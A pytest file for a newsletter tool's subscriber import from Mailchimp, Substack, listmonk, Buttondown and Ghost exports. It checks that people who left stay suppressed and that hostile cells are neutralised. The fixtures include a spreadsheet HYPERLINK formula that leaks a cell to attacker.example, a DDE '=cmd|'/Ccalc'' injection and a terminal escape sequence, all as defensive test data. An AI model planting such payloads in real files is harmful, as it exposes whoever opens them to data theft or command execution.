"""Issue 14: `publisher subscribers import FILE` recognises the exports of the platforms people leave by their header
row (Mailchimp's audience export and its unsubscribed and cleaned files, Substack, listmonk, Buttondown, Ghost) and
keeps what they say: who left is suppressed and never mailed, who opted in is active with their opt-in time, tags that
name a topic become that topic.

Each fixture is built from the platform's documented columns (and its own exporter's code where it is open source),
with a realistic row of each status, a tags or labels cell and hostile cells; every command is the real one, run as a
subprocess on a fresh copy of the sample project.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
from pathlib import Path

import pytest

from publisher.models import Topic

from .test_delivery_faults import configure, publisher

HYPERLINK = '=HYPERLINK("https://attacker.example/?"&A2)'  # a spreadsheet formula where a name or tag should be
ESC = "\x1b[2J\x1b[31m"  # a terminal escape (clear screen, red) inside a tag

MAILCHIMP = ["Email Address", "First Name", "Last Name", "MEMBER_RATING", "OPTIN_TIME", "OPTIN_IP", "CONFIRM_TIME", "CONFIRM_IP",
             "LATITUDE", "LONGITUDE", "GMTOFF", "DSTOFF", "TIMEZONE", "CC", "REGION"]
MAILCHIMP_TAIL = ["LEID", "EUID", "NOTES", "TAGS"]
UNSUB = ["UNSUB_TIME", "UNSUB_CAMPAIGN_TITLE", "UNSUB_CAMPAIGN_ID", "UNSUB_REASON", "UNSUB_REASON_OTHER"]
CLEAN = ["CLEAN_TIME", "CLEAN_CAMPAIGN_TITLE", "CLEAN_CAMPAIGN_ID"]


def tags(*names: str) -> str:
    """Mailchimp's TAGS cell: each tag in double quotes (a quote in it doubled), separated by commas."""
    return ",".join('"' + n.replace('"', '""') + '"' for n in names)


def write(path: Path, header: list[str], rows: list[dict[str, str]]) -> Path:
    """A CSV as the platforms write one: comma-separated, quoted where needed, CRLF."""
    out = io.StringIO()
    writer = csv.DictWriter(out, header, restval="", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


@pytest.fixture
def fresh(project: Path) -> Path:
    """The sample project with no sample subscribers, its content ingested (so its topic, security-cooperation, is
    known) and a second topic, "Regional Security", to match by name."""
    configure(project)
    (project / "content" / "topics" / "regional-security.md").write_text(
        '+++\nslug = "regional-security"\nname = "Regional Security"\n+++\nRegional security.\n', encoding="utf-8")
    proc = publisher(project, "ingest")
    assert proc.returncode == 0, proc.stderr
    return project


def run(project: Path, *args: str) -> str:
    proc = publisher(project, *args)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, (args, proc.stdout, proc.stderr)
    return proc.stdout + proc.stderr


def listed(project: Path) -> dict[str, tuple[str, str]]:
    """email -> (status, topics) from `publisher subscribers list`."""
    out = run(project, "subscribers", "list")
    return {parts[0]: (parts[1], parts[2]) for parts in (line.split("\t") for line in out.splitlines() if "\t" in line)}


def shown(project: Path, address: str) -> dict[str, object]:
    return json.loads(publisher(project, "subscribers", "show", address).stdout)


def mailchimp_files(folder: Path) -> tuple[Path, Path, Path]:
    """The three CSVs of Mailchimp's audience export ZIP."""
    subscribed = write(folder / "subscribed_members_export_3f9a1c.csv", [*MAILCHIMP, "LAST_CHANGED", *MAILCHIMP_TAIL], [
        {"Email Address": "Ada.Active@Example.com", "First Name": "Ada", "MEMBER_RATING": "4", "OPTIN_TIME": "2019-03-04 10:11:12",
         "OPTIN_IP": "198.51.100.7", "CONFIRM_TIME": "2019-03-04 10:15:00", "CONFIRM_IP": "198.51.100.7", "CC": "GB",
         "LAST_CHANGED": "2023-01-02 03:04:05", "LEID": "90498395", "EUID": "810826c56e",
         "TAGS": tags("Security Cooperation", "Donors 2023")},
        {"Email Address": "imported.by.admin@example.com", "MEMBER_RATING": "2", "CONFIRM_TIME": "2020-06-01 08:00:00",
         "LEID": "90498396", "EUID": "810826c56f", "TAGS": tags("regional_security", HYPERLINK)},
        {"Email Address": "no.optin@example.com", "First Name": HYPERLINK, "MEMBER_RATING": "1", "LEID": "90498397", "EUID": "810826c570"},
        {"Email Address": "not-an-address", "MEMBER_RATING": "2", "OPTIN_TIME": "2019-01-01 00:00:00", "LEID": "1", "EUID": "2"},
    ])
    unsubscribed = write(folder / "unsubscribed_members_export_3f9a1c.csv", [*MAILCHIMP, *UNSUB, *MAILCHIMP_TAIL], [
        {"Email Address": "uma.unsub@example.com", "First Name": "Uma", "MEMBER_RATING": "2", "OPTIN_TIME": "2018-02-12 10:54:27",
         "CONFIRM_TIME": "2018-02-12 10:54:27", "UNSUB_TIME": "2023-06-06 12:56:15", "UNSUB_CAMPAIGN_TITLE": "Weekly 41",
         "UNSUB_REASON": "I no longer want to receive these emails", "LEID": "3", "EUID": "4", "TAGS": tags("Security Cooperation")},
    ])
    cleaned = write(folder / "cleaned_members_export_3f9a1c.csv", [*MAILCHIMP, *CLEAN, *MAILCHIMP_TAIL], [
        {"Email Address": "carl.cleaned@example.com", "MEMBER_RATING": "1", "OPTIN_TIME": "2018-02-05 19:28:23",
         "CONFIRM_TIME": "2018-02-05 19:28:23", "CLEAN_TIME": "2020-03-23 17:30:05", "CLEAN_CAMPAIGN_TITLE": "Weekly 12",
         "LEID": "5", "EUID": "6", "TAGS": tags("Editors")},
    ])
    return subscribed, unsubscribed, cleaned


def substack_file(folder: Path) -> Path:
    """The "email list" CSV of Substack's export (email_list.<publication>.csv)."""
    return write(folder / "email_list.example-pub.csv",
                 ["email", "active_subscription", "expiry", "plan", "email_disabled", "created_at", "first_payment_at"], [
                     {"email": "sam.free@example.com", "active_subscription": "false", "plan": "other", "email_disabled": "false",
                      "created_at": "2021-05-06T07:08:09.000Z"},
                     {"email": "pat.paid@example.com", "active_subscription": "true", "expiry": "2027-01-01T00:00:00.000Z",
                      "plan": "yearly", "email_disabled": "false", "created_at": "2022-02-03T04:05:06.789Z",
                      "first_payment_at": "2022-02-03T04:05:07.000Z"},
                     {"email": "dee.disabled@example.com", "active_subscription": "false", "plan": "other", "email_disabled": "true",
                      "created_at": "2020-01-01T00:00:00.000Z"},
                     {"email": "x7f3k2@deletion-request.substack.com", "active_subscription": "false", "plan": "other",
                      "email_disabled": "false", "created_at": "2020-01-01T00:00:00.000Z"},
                     {"email": "=cmd|'/Ccalc'!A1@example.com", "active_subscription": "false", "plan": "other",
                      "email_disabled": "false", "created_at": "2021-01-01T00:00:00.000Z"},
                 ])


def listmonk_file(folder: Path) -> Path:
    """listmonk's "Export" of All subscribers: its columns and Go's time format, as cmd/subscribers.go writes them."""
    return write(folder / "subscribers.csv", ["uuid", "email", "name", "attributes", "status", "created_at", "updated_at"], [
        {"uuid": "5e6d0a1f-0b0e-4a0e-8c1e-1b2c3d4e5f60", "email": "lee.enabled@example.com", "name": "Lee",
         "attributes": '{"city": "Bengaluru", "projects": 3}', "status": "enabled",
         "created_at": "2022-07-01 09:30:00.123456 +0530 IST", "updated_at": "2023-01-01 00:00:00 +0000 UTC"},
        {"uuid": "5e6d0a1f-0b0e-4a0e-8c1e-1b2c3d4e5f61", "email": "dan.disabled@example.com", "name": HYPERLINK, "attributes": "{}",
         "status": "disabled", "created_at": "2021-01-01 00:00:00 +0000 UTC", "updated_at": "2021-01-01 00:00:00 +0000 UTC"},
        {"uuid": "5e6d0a1f-0b0e-4a0e-8c1e-1b2c3d4e5f62", "email": "bo.blocklisted@example.com", "name": "Bo", "attributes": "{}",
         "status": "blocklisted", "created_at": "2021-01-01 00:00:00 +0000 UTC", "updated_at": "2021-02-01 00:00:00 +0000 UTC"},
    ])


BUTTONDOWN = ["id", "secondary_id", "email", "notes", "subscriber_type", "referrer_url", "utm_source", "utm_medium", "utm_campaign",
              "creation_date", "ip_address", "subscription_date", "unsubscription_date", "tags", "metadata"]


def buttondown_file(folder: Path) -> Path:
    """Buttondown's subscriber export (docs: "Subscriber data exports"): tags separated by ';'."""
    def row(n: int, address: str, kind: str, **cells: str) -> dict[str, str]:
        return {"id": f"g13dbe77-77e6-65fc-b884-pl68df5bc2e{n}", "secondary_id": str(n), "email": address, "subscriber_type": kind,
                "creation_date": "2024-03-13 00:03:09.183465+00:00", "ip_address": "203.0.113.9", **cells}

    return write(folder / "buttondown-subscribers.csv", BUTTONDOWN, [
        row(1, "rita.regular@example.com", "regular", subscription_date="2024-03-14 08:00:00.5+00:00",
            tags=f"security-cooperation;nyc;{ESC}red", metadata="{'staff': 'true', 'role': 'writer'}", notes="Met in NYC."),
        row(2, "pia.premium@example.com", "premium", subscription_date="2024-04-01 00:00:00+00:00", tags="Regional Security"),
        row(3, "una.unactivated@example.com", "unactivated"),
        row(4, "ulf.unsubscribed@example.com", "unsubscribed", subscription_date="2024-03-13 00:03:09+00:00",
            unsubscription_date="2024-04-08 17:09:32.596959+00:00"),
        row(5, "ubu.undeliverable@example.com", "undeliverable"),
        row(6, "cora.complained@example.com", "complained"),
        row(7, "odd.type@example.com", "=1+1"),
    ])


def ghost_file(folder: Path) -> Path:
    """Ghost's members CSV (Members -> Export): its formula cells already prefixed with ' by Ghost's exporter."""
    header = ["id", "email", "name", "note", "subscribed_to_emails", "complimentary_plan", "stripe_customer_id", "created_at",
              "deleted_at", "labels", "tiers"]
    return write(folder / "members.2026-11-27.csv", header, [
        {"id": "6512f0a1b2c3d4e5f6a7b8c1", "email": "gil.subscribed@example.com", "name": "Gil", "note": "Early supporter",
         "subscribed_to_emails": "true", "complimentary_plan": "false", "created_at": "2023-09-26T14:01:02.000Z",
         "labels": "security cooperation,Import 2023", "tiers": "Free"},
        {"id": "6512f0a1b2c3d4e5f6a7b8c2", "email": "gus.unsubscribed@example.com", "name": "'=1+2", "subscribed_to_emails": "false",
         "complimentary_plan": "false", "created_at": "2023-01-01T00:00:00.000Z", "labels": "'" + HYPERLINK, "tiers": "Free"},
        {"id": "6512f0a1b2c3d4e5f6a7b8c3", "email": "gwen.comped@example.com", "name": "Gwen", "subscribed_to_emails": "true",
         "complimentary_plan": "true", "stripe_customer_id": "cus_ABC123", "created_at": "2999-02-01T12:30:00.000Z",
         "tiers": "Supporter"},
    ])


def test_mailchimp_audience_export_its_subscribed_unsubscribed_and_cleaned_files(fresh: Path) -> None:
    subscribed, unsubscribed, cleaned = mailchimp_files(fresh)
    out = run(fresh, "subscribers", "import", str(subscribed))
    assert "Mailchimp audience export (subscribed): 4 rows: 3 added, 0 already known, 0 suppressed, 1 rejected" in out, out
    assert "added as: 2 active, 1 pending" in out and "pending: subscribed contacts with neither OPTIN_TIME nor CONFIRM_TIME" in out
    assert "line 5: 'not-an-address' is not a valid email address" in out  # rows stay line-numbered
    assert f"tags with no topic: Donors 2023, {HYPERLINK}" in out  # once, in the summary, never an error
    out = run(fresh, "subscribers", "import", str(unsubscribed))
    assert "Mailchimp audience export (unsubscribed): 1 row: 1 added" in out and "1 unsubscribed (1 never mailed" in out, out
    out = run(fresh, "subscribers", "import", str(cleaned))
    assert "Mailchimp audience export (cleaned): 1 row: 1 added" in out and "1 bounced" in out, out
    assert "tags with no topic: Editors" in out

    people = listed(fresh)
    assert people["ada.active@example.com"] == ("active", "security-cooperation")
    assert people["imported.by.admin@example.com"] == ("active", "regional-security")  # a tag that is a topic's slug, differently written
    assert people["no.optin@example.com"][0] == "pending"  # "subscribed" with no opt-in or confirmation time: no sign of consent
    assert people["uma.unsub@example.com"][0] == "unsubscribed" and people["carl.cleaned@example.com"][0] == "bounced"
    assert "not-an-address" not in people and len(people) == 5
    assert shown(fresh, "ada.active@example.com")["confirmed_at"] == "2019-03-04T10:15:00+00:00"  # CONFIRM_TIME, read as UTC
    assert shown(fresh, "imported.by.admin@example.com")["confirmed_at"] == "2020-06-01T08:00:00+00:00"
    assert shown(fresh, "no.optin@example.com")["confirmed_at"] is None


def test_substack_subscriber_export(fresh: Path) -> None:
    out = run(fresh, "subscribers", "import", str(substack_file(fresh)))
    assert "Substack subscriber export: 5 rows: 4 added, 0 already known, 0 suppressed, 1 rejected" in out, out
    assert "added as: 3 active, 1 unsubscribed" in out
    assert "line 5: a Substack deletion request" in out
    people = listed(fresh)
    assert {a: s for a, (s, _) in people.items()} == {
        "sam.free@example.com": "active", "pat.paid@example.com": "active", "dee.disabled@example.com": "unsubscribed",
        "=cmd|'/ccalc'!a1@example.com": "active"}
    assert shown(fresh, "pat.paid@example.com")["confirmed_at"] == "2022-02-03T04:05:06.789000+00:00"  # created_at
    exported = list(csv.reader(io.StringIO(run(fresh, "subscribers", "export"))))
    assert ["'=cmd|'/ccalc'!a1@example.com", "active"] in [r[:2] for r in exported]  # the formula address goes out neutralised


def test_listmonk_subscribers_export(fresh: Path) -> None:
    out = run(fresh, "subscribers", "import", str(listmonk_file(fresh)))
    assert "listmonk subscribers export: 3 rows: 3 added, 0 already known, 0 suppressed, 0 rejected" in out, out
    assert "added as: 1 active, 2 unsubscribed" in out
    assert "note: listmonk's export has no list subscriptions" in out  # what the format cannot tell, said once
    people = listed(fresh)
    assert people["lee.enabled@example.com"][0] == "active"
    assert people["dan.disabled@example.com"][0] == people["bo.blocklisted@example.com"][0] == "unsubscribed"
    assert shown(fresh, "lee.enabled@example.com")["confirmed_at"] == "2022-07-01T04:00:00.123456+00:00"  # +0530 IST, in UTC


def test_buttondown_subscriber_export(fresh: Path) -> None:
    proc = publisher(fresh, "subscribers", "import", str(buttondown_file(fresh)), "--confirmed")
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout + proc.stderr
    assert "Buttondown subscriber export: 7 rows: 6 added, 0 already known, 0 suppressed, 1 rejected" in out, out
    assert "added as: 2 active, 1 pending, 1 unsubscribed, 1 bounced, 1 complained (3 never mailed" in out
    assert "--confirmed did not apply: the file says each person's status" in out
    assert "line 8: subscriber_type '=1+1' is not one this import knows" in out  # an unknown status is never guessed
    assert "tags with no topic: nyc, \\x1b[2J\\x1b[31mred" in out and "\x1b" not in proc.stdout  # a tag never writes to the terminal
    people = listed(fresh)
    assert people["rita.regular@example.com"] == ("active", "security-cooperation")
    assert people["pia.premium@example.com"] == ("active", "regional-security")  # "Regional Security": the topic's name
    assert people["una.unactivated@example.com"][0] == "pending"
    assert people["ulf.unsubscribed@example.com"][0] == "unsubscribed"
    assert people["ubu.undeliverable@example.com"][0] == "bounced" and people["cora.complained@example.com"][0] == "complained"
    assert "odd.type@example.com" not in people
    assert shown(fresh, "rita.regular@example.com")["confirmed_at"] == "2024-03-14T08:00:00.500000+00:00"  # subscription_date


def test_ghost_members_export(fresh: Path) -> None:
    out = run(fresh, "subscribers", "import", str(ghost_file(fresh)))
    assert "Ghost members export: 3 rows: 3 added, 0 already known, 0 suppressed, 0 rejected" in out, out
    assert "added as: 2 active, 1 unsubscribed" in out
    assert f"tags with no topic: Import 2023, {HYPERLINK}" in out  # Ghost's neutralising quote comes off, as ours does
    people = listed(fresh)
    assert people["gil.subscribed@example.com"] == ("active", "security-cooperation")  # label "security cooperation"
    assert people["gus.unsubscribed@example.com"][0] == "unsubscribed"
    assert people["gwen.comped@example.com"] == ("active", "all topics")
    assert shown(fresh, "gil.subscribed@example.com")["confirmed_at"] == "2023-09-26T14:01:02+00:00"
    comped = shown(fresh, "gwen.comped@example.com")  # a consent time in the future is no consent yet: the import's time
    assert comped["confirmed_at"] == comped["created_at"]


def test_suppressed_people_get_no_digest(fresh: Path) -> None:
    """Every format into one project, then `publisher digest send` to the default outbox: only active people get it."""
    files = [*mailchimp_files(fresh), substack_file(fresh), listmonk_file(fresh), buttondown_file(fresh), ghost_file(fresh)]
    for path in files:
        run(fresh, "subscribers", "import", str(path))
    people = listed(fresh)
    active = {a for a, (status, _) in people.items() if status == "active"}
    assert len(active) == 10 and len(people) == 21
    # The two who follow only "Regional Security" are skipped: it has nothing this week ([digest].send_empty is off).
    quiet = {a for a in active if people[a][1] == "regional-security"}
    assert len(quiet) == 2
    out = run(fresh, "digest", "send")
    assert f"{len(active) - 2} sent, 0 deferred, 0 failed, 2 skipped" in out, out
    folder = fresh / "var" / "outbox" / "new"
    messages = [email.message_from_bytes(p.read_bytes(), policy=email.policy.default) for p in folder.iterdir()]
    sent_to = {str(m["To"]).lower() for m in messages if "weekly" in str(m["Subject"])}
    assert sent_to == active - quiet
    # The pending ones (no opt-in time, "unactivated") got the confirmation email from the import, and only that.
    confirming = {str(m["To"]).lower() for m in messages if "weekly" not in str(m["Subject"])}
    assert confirming == {a for a, (status, _) in people.items() if status == "pending"} == {"no.optin@example.com", "una.unactivated@example.com"}
    for address in ("uma.unsub@example.com", "carl.cleaned@example.com", "dee.disabled@example.com", "bo.blocklisted@example.com",
                    "ulf.unsubscribed@example.com", "ubu.undeliverable@example.com", "cora.complained@example.com",
                    "gus.unsubscribed@example.com", "no.optin@example.com", "una.unactivated@example.com"):
        assert address not in sent_to


def test_who_left_is_suppressed_even_if_already_here_and_no_later_import_brings_anyone_back(fresh: Path) -> None:
    run(fresh, "subscribers", "add", "uma.unsub@example.com", "--confirmed")
    subscribed, unsubscribed, cleaned = mailchimp_files(fresh)
    out = run(fresh, "subscribers", "import", str(unsubscribed))
    assert "0 added, 1 already known" in out and "1 already here and active or pending are now suppressed" in out, out
    assert listed(fresh)["uma.unsub@example.com"][0] == "unsubscribed"

    # A later export in which they are subscribed again, and a plain list with --confirmed: neither revives them, and
    # neither activates someone pending.
    write(fresh / "later.csv", [*MAILCHIMP, "LAST_CHANGED", *MAILCHIMP_TAIL], [
        {"Email Address": "uma.unsub@example.com", "MEMBER_RATING": "3", "CONFIRM_TIME": "2025-01-01 00:00:00", "LEID": "7", "EUID": "8"},
        {"Email Address": "no.optin@example.com", "MEMBER_RATING": "3", "CONFIRM_TIME": "2025-01-01 00:00:00", "LEID": "9", "EUID": "10"}])
    run(fresh, "subscribers", "import", str(subscribed))  # no.optin@ is pending from this one
    out = run(fresh, "subscribers", "import", str(fresh / "later.csv"))
    assert "0 added, 2 already known" in out, out
    (fresh / "plain.csv").write_text("email\numa.unsub@example.com\ncarl.cleaned@example.com\n", encoding="utf-8")
    run(fresh, "subscribers", "import", str(cleaned))
    assert "0 added, 2 already known" in run(fresh, "subscribers", "import", "plain.csv", "--confirmed")
    people = listed(fresh)
    assert people["uma.unsub@example.com"][0] == "unsubscribed" and people["carl.cleaned@example.com"][0] == "bounced"
    assert people["no.optin@example.com"][0] == "pending"


def test_a_plain_list_and_our_own_export_work_as_before(fresh: Path) -> None:
    (fresh / "list.csv").write_text("email,topics\nOne@Example.com,security-cooperation\nbroken-address,\none@example.com,\n",
                                    encoding="utf-8")
    out = run(fresh, "subscribers", "import", "list.csv", "--confirmed")
    assert "CSV with an email column: 3 rows: 1 added, 0 already known, 0 suppressed, 2 rejected" in out, out
    assert "line 3:" in out and "line 4: one@example.com appears earlier in the file" in out
    assert "added as" not in out and "tags with no topic" not in out
    exported = run(fresh, "subscribers", "export", "out.csv")
    assert "exported" in exported
    other = fresh / "other"
    other.mkdir()
    (other / "config.toml").write_text("[subscribers]\nsample_subscribers = []\n", encoding="utf-8")
    out = run(other, "subscribers", "import", str(fresh / "out.csv"))
    assert "publisher subscribers export: 1 row: 1 added" in out and "who it says unsubscribed, bounced or complained is stored so" in out, out
    # A store with no topics yet (nothing ingested): the topic is left out, and the summary says what to do.
    assert "no topics are known yet: run `publisher ingest` first" in out, out
    assert listed(other) == {"one@example.com": ("pending", "all topics")}


def test_an_unknown_layout_names_the_columns_found_and_the_layouts_expected(fresh: Path) -> None:
    write(fresh / "convertkit.csv", ["first_name", "E-mail Adress", "status", "tags"], [{"first_name": "Kit", "tags": "a"}])
    proc = publisher(fresh, "subscribers", "import", "convertkit.csv")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert "no 'email' column" in proc.stderr and "columns found: first_name, E-mail Adress, status, tags" in proc.stderr
    for expected in ("a plain CSV: email", "Mailchimp audience export (its subscribed, unsubscribed or cleaned file): Email Address",
                     "MEMBER_RATING, OPTIN_TIME", "Substack subscriber export: email, active_subscription",
                     "listmonk subscribers export: uuid, email, name, attributes, status",
                     "Buttondown subscriber export: email, subscriber_type",
                     "Ghost members export: id, email, name, note, subscribed_to_emails"):
        assert expected in proc.stderr, (expected, proc.stderr)
    assert listed(fresh) == {}

    (fresh / "hostile.csv").write_text(f"{ESC}name,{'x' * 300}\n", encoding="utf-8")  # what is found is shown, escaped and cut
    proc = publisher(fresh, "subscribers", "import", "hostile.csv")
    assert proc.returncode == 2 and "\x1b" not in proc.stderr and "\\x1b[2J" in proc.stderr and "x" * 60 not in proc.stderr


def test_the_layouts_other_versions_of_these_exports_have() -> None:
    """Header rows and cells as other versions of the exporters write them (Ghost's migration tools' fixtures, older
    Ghost, Substack's paid-subscribers file, listmonk's nanoseconds): the same layouts and the same readings."""
    from subscribers import platforms

    def label(header: str) -> str:
        return platforms.detect(next(csv.reader([header]))).label

    assert label("Email,First Name,Last Name,Company,MEMBER_RATING,OPTIN_TIME,OPTIN_IP,CONFIRM_TIME,CONFIRM_IP,LEID,EUID,NOTES") \
        == "Mailchimp audience export (subscribed)"  # "Email", no TAGS
    assert label("\ufeffEmail Address,MEMBER_RATING,OPTIN_TIME,CONFIRM_TIME,CLEAN_TIME,CLEAN_CAMPAIGN_TITLE,CLEAN_CAMPAIGN_ID,LEID,EUID") \
        == "Mailchimp audience export (cleaned)"
    assert label("email,expiry,email_disabled,prefer_digests,stripe_connected_customer_id,type") == "Substack subscriber export"
    assert label("email,active_subscription,expiry,email_disabled,prefer_digests,created_at") == "Substack subscriber export"
    ghost = "id,email,name,note,subscribed_to_emails,complimentary_plan,stripe_customer_id,created_at,deleted_at,labels"
    assert label(ghost + ",products") == label(ghost + ",tiers,gift_id") == "Ghost members export"  # older Ghost, newer Ghost
    assert label("email,status,topics,created_at,confirmed_at") == "publisher subscribers export"
    assert label("Email,Topics") == "CSV with an email column"

    assert platforms.parse_time("2024-03-13 00:03:09.123456789 +0000 UTC").isoformat() == "2024-03-13T00:03:09.123456+00:00"
    assert platforms.parse_time("2018-02-12 10:54:27").isoformat() == "2018-02-12T10:54:27+00:00"
    assert platforms.parse_time("2018-08-27T15:06:27.713Z").isoformat() == "2018-08-27T15:06:27.713000+00:00"
    assert platforms.parse_time("") is None
    with pytest.raises(ValueError):
        platforms.parse_time("last Tuesday")
    assert platforms.mailchimp_tags('"Lorem Editors"') == ["Lorem Editors"]
    assert platforms.mailchimp_tags('"a, with comma","b"') == ["a, with comma", "b"]
    assert platforms.mailchimp_tags("plain, list") == ["plain", "list"]
    index = platforms.topic_index([Topic("security-cooperation", "Security Cooperation")])
    spellings = ("SECURITY  cooperation", "security_cooperation", "Security-Cooperation ", "security")
    assert [index.get(platforms.tag_key(t)) for t in spellings] == ["security-cooperation"] * 3 + [None]


def test_a_restore_from_our_own_export_never_mails_who_left_and_unknown_topics_are_left_out(fresh: Path) -> None:
    run(fresh, "ingest")
    (fresh / "ours.csv").write_text(
        '"email","status","topics","created_at","confirmed_at"\n'
        '"stayed@example.com","active","security-cooperation;cybr","2026-01-01T00:00:00+00:00","2026-01-01T00:00:00+00:00"\n'
        '"left@example.com","unsubscribed","","2026-01-01T00:00:00+00:00",""\n'
        '"bounced@example.com","bounced","","2026-01-01T00:00:00+00:00",""\n', encoding="utf-8")
    out = run(fresh, "subscribers", "import", "ours.csv")
    assert "topics not on this site (left out): cybr" in out, out
    people = listed(fresh)
    assert people["stayed@example.com"] == ("pending", "security-cooperation")
    assert people["left@example.com"][0] == "unsubscribed" and people["bounced@example.com"][0] == "bounced"
    folder = fresh / "var" / "outbox" / "new"
    mailed = {str(email.message_from_bytes(p.read_bytes(), policy=email.policy.default)["To"]) for p in folder.iterdir()}
    assert mailed == {"stayed@example.com"}  # the confirmation; never to who left
